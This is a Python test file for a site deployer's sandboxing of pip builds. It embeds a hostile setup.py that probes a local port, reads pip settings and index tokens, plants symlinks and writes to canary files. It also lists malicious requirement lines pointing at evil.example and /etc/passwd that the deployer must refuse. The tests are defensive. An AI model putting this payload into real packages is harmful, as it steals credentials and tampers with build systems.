"""The requirements.txt step (issue 21, findings 3, 4, 7, 13; class fix 4).

A site commits an sdist whose ``setup.py`` runs when pip builds it. It tries a service on the
deployer's 127.0.0.1, reads the operator's pip settings (a private index URL with a token),
and turns every path the deployer used to reuse into a link to a canary: the install probe's
work folder (then bound writable), the step's log (then overwritten by the next pip run) and
the venv's completion marker (then ``touch``-ed). The sdist is built offline in the sandbox;
it reaches nothing, finds no token, and the canaries stay as they were.
"""

from __future__ import annotations

import io
import json
import socket
import tarfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from sitedeploy import commands
from sitedeploy import config as config_mod
from sitedeploy.errors import BuildError
from tests.fixtures.canaries import CanaryFolder
from tests.fixtures.git import ContentRepo, write_config

PIP_TOKEN = "canary-pip-token-5d4c"
SETUP_PY = """
import json, os, socket
from setuptools import setup

import sys
PORT, CANARY_FILE, CANARY_DIR, ABSENT = {port}, {file!r}, {dir!r}, {absent!r}
VENV = sys.prefix  # the venv being installed into (its name hashes this very sdist)
report = {{}}
s = socket.socket()
s.settimeout(5)
try:
    s.connect(("127.0.0.1", PORT))
    report["connect"] = "connected"
except OSError as exc:
    report["connect"] = repr(exc)
s.close()
report["env"] = {{k: v for k, v in os.environ.items() if k.startswith("PIP_") or "proxy" in k.lower()}}
configs = [os.environ.get("PIP_CONFIG_FILE", ""), "/etc/pip.conf", "/etc/xdg/pip/pip.conf",
           os.path.expanduser("~/.config/pip/pip.conf"), os.path.expanduser("~/.pip/pip.conf")]
report["configs"] = {{}}
for path in configs:
    try:
        report["configs"][path] = open(path).read()
    except OSError:
        pass
home = os.environ["HOME"]
plants = {{  # where the deployer used to look: the probe's folder, the step's log, the marker
    os.path.join(home, "..", "..", "probe"): CANARY_DIR,
    os.path.join(home, "..", "output.log"): CANARY_FILE,
    os.path.join(VENV, ".sitedeploy-complete"): ABSENT,
}}
for path, target in plants.items():
    try:
        if os.path.lexists(path):
            os.rename(path, path + ".old")
        os.symlink(target, path)
    except OSError:
        pass
try:
    with open(CANARY_FILE, "a") as f:
        f.write("written by setup.py")
    report["direct"] = "wrote"
except OSError as exc:
    report["direct"] = repr(exc)
with open(os.path.join(VENV, "report.json"), "w") as f:
    json.dump(report, f)
setup(name="evil", version="1.0", py_modules=[])
"""


@pytest.fixture
def listener() -> Iterator[tuple[int, list[str]]]:
    """A TCP service on the deployer's loopback, recording who connected."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    seen: list[str] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            seen.append("connection")
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], seen
    stop.set()
    thread.join()
    server.close()


def _sdist(setup_py: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        data = setup_py.encode()
        info = tarfile.TarInfo("evil-1.0/setup.py")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


@pytest.mark.slow
def test_a_setup_py_reaches_nothing_and_finds_no_token(
    tmp_path: Path,
    content_repo: ContentRepo,
    canary_folder: CanaryFolder,
    listener: tuple[int, list[str]],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    port, seen = listener
    # The operator's index settings, one with a token: the host download may use them (the
    # private one is unreachable here and skipped), the sandbox never sees them.
    monkeypatch.setenv("PIP_INDEX_URL", "https://pypi.org/simple/")
    monkeypatch.setenv("PIP_EXTRA_INDEX_URL", f"https://ops:{PIP_TOKEN}@127.0.0.1:9/simple/")
    monkeypatch.setenv("PIP_RETRIES", "0")
    ops = tmp_path / "ops"
    ops.mkdir()
    cfg = config_mod.load(
        write_config(ops, content_repo.path, sites='[[sites]]\nname = "docs"\npath = "sites/docs"\n')
    )
    requirements = "mkdocs==1.6.1\n./evil-1.0.tar.gz\n"
    setup_py = SETUP_PY.format(
        port=port, file=str(canary_folder.file), dir=str(canary_folder.folder),
        absent=str(canary_folder.absent),
    )  # fmt: skip
    content_repo.write("sites/docs/evil-1.0.tar.gz", _sdist(setup_py))
    content_repo.write("sites/docs/requirements.txt", requirements)
    content_repo.commit("a requirement built from a committed sdist")

    built = commands.build(cfg)  # the sdist is built, offline, in the sandbox

    assert built.sites[0].name == "docs"
    [venv] = [p for p in (cfg.state_dir / "venvs" / "docs").glob("mkdocs-*") if p.is_dir()]
    report = json.loads((venv / "report.json").read_text())
    assert report["connect"] != "connected" and seen == []
    assert PIP_TOKEN not in json.dumps(report)
    assert not report["env"].get("PIP_INDEX_URL") and not report["env"].get("PIP_EXTRA_INDEX_URL")
    assert report["direct"] != "wrote"
    assert canary_folder.changes() == []
    assert not canary_folder.absent.exists()


@pytest.mark.parametrize(
    "line",
    [
        "-r ../../../../etc/passwd",
        "--index-url https://evil.example/simple",
        "-e .",
        "../outside-1.0.tar.gz",
        "/etc/passwd",
        "evil @ file:///etc/passwd",
        "evil @ https://evil.example/evil-1.0.tar.gz",
        "git+https://evil.example/evil.git",
    ],
)
def test_requirement_lines_that_would_reach_outside_are_refused(
    line: str, tmp_path: Path, content_repo: ContentRepo
) -> None:
    """What the host-side download would read, fetch or build is refused with one line."""
    content_repo.write("sites/docs/requirements.txt", f"mkdocs==1.6.1\n{line}\n")
    content_repo.commit("a requirement line that reaches outside")
    ops = tmp_path / "ops"
    ops.mkdir()
    cfg = config_mod.load(
        write_config(ops, content_repo.path, sites='[[sites]]\nname = "docs"\npath = "sites/docs"\n')
    )
    with pytest.raises(BuildError, match=r"requirements.txt line 2\)") as caught:
        commands.build(cfg)
    assert "\n" not in str(caught.value)
